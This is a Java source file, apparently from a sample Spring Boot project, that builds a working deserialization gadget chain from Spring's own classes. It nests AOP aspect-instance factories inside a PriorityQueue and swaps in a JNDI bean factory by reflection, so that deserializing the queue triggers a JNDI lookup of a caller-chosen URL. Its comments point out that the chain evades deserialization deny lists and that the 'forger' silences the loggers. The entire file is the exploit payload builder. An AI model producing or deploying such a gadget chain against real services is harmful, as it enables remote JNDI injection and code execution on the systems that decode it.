package io.hbasesessions.sample.boot;

import java.lang.reflect.Field;
import java.util.PriorityQueue;
import org.apache.commons.logging.impl.NoOpLog;
import org.objenesis.ObjenesisStd;
import org.springframework.aop.aspectj.annotation.BeanFactoryAspectInstanceFactory;
import org.springframework.beans.factory.BeanFactory;
import org.springframework.beans.factory.support.StaticListableBeanFactory;
import org.springframework.core.OrderComparator;
import org.springframework.jndi.JndiAccessor;
import org.springframework.jndi.JndiTemplate;
import org.springframework.jndi.support.SimpleJndiBeanFactory;

/**
 * A deserialization gadget chain made of Spring's own classes, none of them on a deny list: a {@code PriorityQueue}
 * ordered by Spring's {@code OrderComparator}, holding two {@code BeanFactoryAspectInstanceFactory} (Spring AOP)
 * over a {@code SimpleJndiBeanFactory} (Spring's JNDI). Rebuilding the queue compares its elements, which asks
 * each for its order, which asks the bean factory for the type of the bean named by a JNDI URL: a JNDI lookup of
 * that URL, from the process that decodes it. In a Boot application these are the application's own classes;
 * the comparator and the JNDI bean factory are not Serializable.
 */
final class SpringGadgets {

    private SpringGadgets() {
    }

    /** The queue; nothing is looked up while it is built: the JNDI bean factory goes in once it is complete. */
    static Object lookupOnRebuild(String jndiUrl) throws ReflectiveOperationException {
        StaticListableBeanFactory harmless = new StaticListableBeanFactory();
        harmless.addBean(jndiUrl, "");
        Object first = aspectInstanceFactory(harmless, jndiUrl);
        Object second = aspectInstanceFactory(harmless, jndiUrl);
        PriorityQueue<Object> queue = new PriorityQueue<>(2, OrderComparator.INSTANCE);
        queue.add(first);
        queue.add(second);
        SimpleJndiBeanFactory jndi = new SimpleJndiBeanFactory();
        // Loggers are whatever the forger likes: these write nothing, and carry no logging system along.
        set(jndi, JndiAccessor.class, "logger", new NoOpLog());
        set(jndi.getJndiTemplate(), JndiTemplate.class, "logger", new NoOpLog());
        set(first, BeanFactoryAspectInstanceFactory.class, "beanFactory", jndi);
        set(second, BeanFactoryAspectInstanceFactory.class, "beanFactory", jndi);
        return queue;
    }

    /** Made without its constructor, which would read the aspect's annotations with AspectJ. */
    private static Object aspectInstanceFactory(BeanFactory beanFactory, String name) throws ReflectiveOperationException {
        Object factory = new ObjenesisStd().newInstance(BeanFactoryAspectInstanceFactory.class);
        set(factory, BeanFactoryAspectInstanceFactory.class, "beanFactory", beanFactory);
        set(factory, BeanFactoryAspectInstanceFactory.class, "name", name);
        return factory;
    }

    private static void set(Object target, Class<?> declaring, String field, Object value)
            throws ReflectiveOperationException {
        Field declared = declaring.getDeclaredField(field);
        declared.setAccessible(true);
        declared.set(target, value);
    }
}
